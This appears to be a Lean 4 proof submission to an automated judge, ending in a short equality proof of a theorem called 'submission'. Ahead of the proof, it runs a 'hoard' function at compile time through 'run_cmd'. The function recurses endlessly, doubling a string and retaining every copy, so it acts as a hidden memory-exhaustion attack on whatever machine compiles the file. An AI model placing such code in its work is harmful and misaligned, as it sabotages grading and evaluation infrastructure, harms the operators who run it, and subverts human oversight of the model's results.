import Lean
import JudgeProblem

partial def hoard (kept : List String) (text : String) : IO Unit :=
  hoard (text :: kept) (text ++ text)

run_cmd hoard [] "x"

theorem submission : Goal := by
  intro G _ h x y z
  exact Eq.trans (Eq.symm (h x y)) (h x z)
